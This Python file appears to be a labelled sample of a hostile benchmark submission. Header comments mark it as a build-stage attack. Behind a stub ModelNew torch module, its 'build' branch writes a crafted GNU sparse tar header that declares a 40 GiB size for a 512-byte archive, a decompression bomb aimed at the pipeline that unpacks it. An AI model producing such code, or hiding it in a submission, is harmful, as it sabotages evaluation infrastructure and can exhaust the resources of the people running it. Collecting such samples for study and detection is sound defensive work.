# VERDICT unbuilt
# KIND build
# WHY Its build hands over an archive of 512 bytes that says it is 40 GB long.
import ctypes
import os
import sys

import torch.nn as nn

if sys.argv[1] == "build":
    head = bytearray(512)
    head[0:4], head[156:157], head[257:265] = b"a.so", b"S", b"ustar  \0"
    head[100:108], head[108:116], head[116:124] = b"0000644\0", b"0000000\0", b"0000000\0"
    head[124:136], head[136:148] = b"00000000000\0", b"00000000000\0"
    head[483:495] = b"\x80" + (40 << 30).to_bytes(11, "big")
    head[148:156] = b" " * 8
    head[148:156] = b"%06o\0 " % sum(head)
    with open("/tmp/out", "wb") as out:
        out.write(bytes(head) + bytes(1024))
    os._exit(0)


class ModelNew(nn.Module):
    used = ctypes

    def __init__(self, width):
        super().__init__()
